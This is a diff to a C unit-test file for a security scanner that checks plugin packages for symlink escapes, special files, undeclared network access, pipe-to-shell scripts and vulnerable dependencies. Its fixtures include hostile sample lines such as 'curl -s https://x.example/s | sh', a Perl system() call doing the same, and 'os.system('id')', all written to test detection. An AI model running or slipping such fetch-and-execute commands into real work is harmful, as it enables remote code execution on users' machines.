@@ -22,6 +22,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <sys/wait.h>
 #include <unistd.h>
 #include <cmocka.h>
@@ -278,6 +279,15 @@ static void test_fs_symlinks(void **state)
 	assert_int_equal(symlinkat("../main.py", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/up-ok")), 0);
 	assert_int_equal(symlinkat("missing.txt", AT_FDCWD, strcat(strcpy(p, tmp), "/dangling")), 0);
 	assert_int_equal(symlinkat("..", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/parent")), 0);
+	assert_int_equal(symlinkat("loop2", AT_FDCWD, strcat(strcpy(p, tmp), "/loop1")), 0);
+	assert_int_equal(symlinkat("loop1", AT_FDCWD, strcat(strcpy(p, tmp), "/loop2")), 0);
+	{
+		char real[512], target[600];
+
+		assert_non_null(realpath(tmp, real));
+		snprintf(target, sizeof(target), "%s/main.py", real);
+		assert_int_equal(symlinkat(target, AT_FDCWD, strcat(strcpy(p, tmp), "/abs-inside")), 0);
+	}
 	scan(NULL, NULL, &r);
 	absent(&r, "fs-symlink-escape");
 	validate_report_free(&r);
@@ -325,6 +335,8 @@ static void test_fs_modes(void **state)
 	put("sgid", "x", 02755);
 	chmod(strcat(strcpy(p, tmp), "/data"), 0777);
 	assert_int_equal(mkfifo(strcat(strcpy(p, tmp), "/fifo"), 0644), 0);
+	if (geteuid() == 0)	/* a device node needs CAP_MKNOD */
+		assert_int_equal(mknod(strcat(strcpy(p, tmp), "/dev-null"), S_IFCHR | 0600, makedev(1, 3)), 0);
 	{
 		char q[512];
 
@@ -334,7 +346,14 @@ static void test_fs_modes(void **state)
 	scan(NULL, NULL, &r);
 	assert_string_equal(expect(&r, "fs-world-writable", SEV_HIGH)->file, "shared.txt");
 	assert_non_null(strstr(expect(&r, "fs-setuid", SEV_CRITICAL)->message, "set"));
-	assert_string_equal(expect(&r, "fs-special-file", SEV_HIGH)->file, "fifo");
+	expect(&r, "fs-special-file", SEV_HIGH);
+	{
+		int special = 0;
+
+		for (size_t i = 0; i < r.n; i++)
+			special += !strcmp(r.findings[i].rule->id, "fs-special-file");
+		assert_int_equal(special, geteuid() == 0 ? 2 : 1);
+	}
 	expect(&r, "fs-hardlink", SEV_MEDIUM);
 	{
 		int ww = 0, su = 0;
@@ -358,6 +377,12 @@ static void test_fs_unreadable(void **state)
 
 	plain();
 	put("secret.py", "x = 1\n", 0000);
+	put("closed/x.py", "x = 1\n", 0644);
+	{
+		char p[512];
+
+		chmod(strcat(strcpy(p, tmp), "/closed"), 0000);
+	}
 	if (geteuid() != 0) {
 		scan(NULL, NULL, &r);
 		expect(&r, "fs-unreadable", SEV_HIGH);
@@ -374,9 +399,11 @@ static void test_fs_unreadable(void **state)
 			_exit(3);
 		if (validate_dir(tmp, NULL, NULL, &cr, err, sizeof(err)) < 0)
 			_exit(4);
-		st = find(&cr, "fs-unreadable") ? 0 : 5;
+		st = 0;
+		for (size_t i = 0; i < cr.n; i++)
+			st += !strcmp(cr.findings[i].rule->id, "fs-unreadable");
 		validate_report_free(&cr);
-		_exit(st);
+		exit(st == 2 ? 0 : 5);	/* exit, not _exit: coverage data is written at exit */
 	}
 	assert_int_equal(waitpid(pid, &st, 0), pid);
 	assert_true(WIFEXITED(st));
@@ -428,6 +455,67 @@ static void test_fs_limits(void **state)
 	validate_report_free(&r);
 }
 
+/* Files are dispatched by content: shebangs name the interpreter. */
+static void test_dispatch(void **state)
+{
+	struct validate_report r;
+
+	plain();
+	put("tool", "#!/usr/bin/env -S python3 -u\nimport os\nos.system('id')\n", 0755);
+	put("runme", "#!/bin/bash\ncurl -s https://x.example/s | sh\n", 0755);
+	put("script.pl", "#!/usr/bin/perl\nsystem('curl https://x.example/s | sh');\n", 0755);
+	put("notes.txt", "eval(input())  curl x | sh\n", 0644);
+	scan(NULL, NULL, &r);
+	assert_string_equal(expect(&r, "py-shell", SEV_HIGH)->file, "tool");
+	assert_string_equal(expect(&r, "sh-pipe-to-shell", SEV_CRITICAL)->file, "runme");
+	for (size_t i = 0; i < r.n; i++)
+		assert_true(strcmp(r.findings[i].file ? r.findings[i].file : "", "script.pl") &&
+			    strcmp(r.findings[i].file ? r.findings[i].file : "", "notes.txt"));
+	assert_true(r.lines >= 4);
+	validate_report_free(&r);
+}
+
+/* Files over the per-file cap are streamed through the hash, 64 KiB at a time. */
+static void test_big_files(void **state)
+{
+	struct validate_opts o = { .max_file_bytes = 1000 };
+	struct validate_report r;
+	char a[65], *big = malloc(300001);
+
+	memset(big, 'x', 300000);
+	big[300000] = '\0';
+	plain();
+	put("model.bin", big, 0644);
+	scan(NULL, &o, &r);
+	absent(&r, "fs-limit");		/* data over the cap is hashed, not analysed: fine */
+	assert_true(r.bytes >= 300000);
+	memcpy(a, r.digest, 65);
+	validate_report_free(&r);
+	big[150000] = 'y';			/* the digest covers the streamed part too */
+	put("model.bin", big, 0644);
+	scan(NULL, &o, &r);
+	assert_string_not_equal(a, r.digest);
+	validate_report_free(&r);
+	memcpy(big, "#!/bin/sh\n", 10);	/* a script over the cap is not analysed, and says so */
+	put("model.bin", big, 0755);
+	scan(NULL, &o, &r);
+	assert_string_equal(expect(&r, "fs-limit", -1)->file, "model.bin");
+	validate_report_free(&r);
+	o.max_total_bytes = 100000;		/* the total cap stops the read midway */
+	scan(NULL, &o, &r);
+	assert_false(r.complete);
+	expect(&r, "fs-limit", -1);
+	{
+		bool partly = false;
+
+		for (size_t i = 0; i < r.n; i++)
+			partly |= strstr(r.findings[i].message, "partly read") != NULL;
+		assert_true(partly);
+	}
+	validate_report_free(&r);
+	free(big);
+}
+
 static void test_bytecode(void **state)
 {
 	struct validate_report r;
@@ -454,6 +542,7 @@ static void test_entry(void **state)
 		"\"python3\", \"main.py\"", "\"/usr/bin/python3\", \"-u\", \"main.py\"",
 		"\"./run.sh\"", "\"sh\", \"run.sh\"", "\"python3\", \"-m\", \"pkg\"",
 		"\"python3\", \"-W\", \"ignore\", \"main.py\"", "\"python3\", \"pkg\"",
+		"\"bash\", \"-o\", \"errexit\", \"run.sh\"",
 	};
 	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
 		manifest(good[i], "", NULL);
@@ -477,6 +566,8 @@ static void test_entry(void **state)
 		{ "\"python3\", \"-c\", \"print(1)\"", "entry-inline-code", SEV_HIGH },
 		{ "\"bash\", \"-c\", \"echo hi\"", "entry-inline-code", SEV_HIGH },
 		{ "\"python3\"", "entry-inline-code", SEV_HIGH },
+		{ "\"perl\", \"-e\", \"print 1\"", "entry-inline-code", SEV_HIGH },
+		{ "\"./pkg\"", "entry-missing", SEV_CRITICAL },
 	};
 	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
 		manifest(bad[i].entry, "", NULL);
@@ -651,6 +742,28 @@ static void test_perm_network(void **state)
 	scan(NULL, NULL, &r);
 	assert_non_null(strstr(expect(&r, "perm-undeclared-network", SEV_HIGH)->message, "vectorstore"));
 	validate_report_free(&r);
+	/* With network:api only: the local services and other loopback ports are still not granted. */
+	manifest("\"python3\", \"main.py\"", "\"network:api\"",
+		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
+	code("import requests\nrequests.get('http://localhost:11434/api/tags')\n"
+	     "requests.get('http://[::1]:8001/api')\nrequests.get('http://127.0.0.1:5432/')\n"
+	     "A = 'https://user@api.example.com/x'\nB = 'http://host:99999/'\nC = 'http://[::1'\n"
+	     "D = 'http://{host}:8080/'\nE = 'https://%s/'\n");
+	scan(NULL, NULL, &r);
+	{
+		int high = 0, med = 0;
+
+		for (size_t i = 0; i < r.n; i++) {
+			if (strcmp(r.findings[i].rule->id, "perm-undeclared-network"))
+				continue;
+			high += r.findings[i].severity == SEV_HIGH;
+			med += r.findings[i].severity == SEV_MEDIUM;
+		}
+		assert_int_equal(high, 2);
+		assert_int_equal(med, 1);
+		absent(&r, "perm-endpoint-undeclared");
+	}
+	validate_report_free(&r);
 	manifest("\"python3\", \"main.py\"", "\"network:none\"", NULL);
 	code("URL = 'http://127.0.0.1:5432/'\nimport requests\n");
 	scan(NULL, NULL, &r);
@@ -662,8 +775,19 @@ static void test_perm_network(void **state)
 	scan(NULL, NULL, &r);
 	absent(&r, "perm-undeclared-network");
 	validate_report_free(&r);
+	/* UNIX sockets (the consent channel) are not the network; TCP ones are. */
+	code("import socket, os\nch = socket.socket(fileno=int(os.environ['RAGGED_CONSENT_FD']))\n"
+	     "u = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n");
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-undeclared-network");
+	validate_report_free(&r);
+	code("import socket\ns = socket.socket()\ns.connect((host, 443))\n");
+	scan(NULL, NULL, &r);
+	assert_int_equal(expect(&r, "perm-undeclared-network", SEV_HIGH)->line, 2);
+	validate_report_free(&r);
 	/* Shell scripts and binaries count too. */
 	manifest("\"sh\", \"run.sh\"", "", NULL);
+	code("x = 1\n");
 	put("run.sh", "#!/bin/sh\ncurl -s https://x.example/data -o \"$TMPDIR/d\"\n", 0755);
 	scan(NULL, NULL, &r);
 	assert_string_equal(expect(&r, "perm-undeclared-network", -1)->file, "run.sh");
@@ -964,6 +1088,51 @@ static void test_cache(void **state)
 	scan(NULL, &o, &r);
 	assert_false(r.cached);
 	validate_report_free(&r);
+
+	/* A database that cannot be fingerprinted still caches, under "none". */
+	o.osv_dir = "/nonexistent/osv";
+	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"requests==2.31.0\"]\n");
+	scan(NULL, &o, &r);
+	expect(&r, "dep-db-unavailable", -1);
+	validate_report_free(&r);
+
+	/* With dependencies checked, a cached report expires (the database may change in place). */
+	o.osv_dir = osv_db();
+	manifest("\"python3\", \"main.py\"", "", "\n[dependencies]\npython = [\"requests==2.31.0\"]\n");
+	scan(NULL, &o, &r);
+	assert_false(r.cached);
+	expect(&r, "dep-vulnerable", -1);
+	validate_report_free(&r);
+	scan(NULL, &o, &r);
+	assert_true(r.cached);
+	expect(&r, "dep-vulnerable", -1);
+	validate_report_free(&r);
+	dir = opendir(cache);
+	assert_non_null(dir);
+	while ((de = readdir(dir)))
+		if (de->d_name[0] != '.') {
+			char *text, *at;
+			size_t len;
+			FILE *f;
+
+			snprintf(path, sizeof(path), "%s/%s", cache, de->d_name);
+			text = slurp(path, &len);
+			if ((at = strstr(text, "\"checked_at\":"))) {
+				/* An hour and more ago. */
+				at += 13;
+				memset(at, ' ', strspn(at, "0123456789"));
+				at[0] = '1';
+				f = fopen(path, "w");
+				fputs(text, f);
+				fclose(f);
+			}
+			free(text);
+		}
+	closedir(dir);
+	scan(NULL, &o, &r);
+	assert_false(r.cached);
+	expect(&r, "dep-vulnerable", -1);
+	validate_report_free(&r);
 	nftw(cache, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
 }
 
@@ -1143,10 +1312,10 @@ static void test_exposure(void **state)
 	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 6 + 12 + 15);
 	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "medium");
 	cJSON_Delete(o);
-	/* Known grants: nothing granted, nothing counted. */
+	/* Known grants, nothing granted: a third of the points, no exfiltration path yet. */
 	in.granted_known = true;
 	o = validate_exposure(&in);
-	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 0);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 2 + 4);
 	cJSON_Delete(o);
 
 	/* Findings, violations, escapes, kills, an unknown mode: capped at 100. */
@@ -1157,7 +1326,7 @@ static void test_exposure(void **state)
 	in.limit_kills = 1;
 	in.enforcement = "none";
 	o = validate_exposure(&in);
-	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 30 + 20 + 16 + 3 + 20);
+	assert_int_equal(cJSON_GetObjectItem(o, "score")->valueint, 2 + 4 + 30 + 20 + 16 + 3 + 20);
 	assert_string_equal(cJSON_GetObjectItem(o, "level")->valuestring, "high");
 	cJSON_Delete(o);
 	in.escapes = 9;
@@ -1207,6 +1376,8 @@ int main(void)
 		T(test_fs_modes),
 		T(test_fs_unreadable),
 		T(test_fs_limits),
+		T(test_dispatch),
+		T(test_big_files),
 		T(test_bytecode),
 		T(test_entry),
 		T(test_elf),
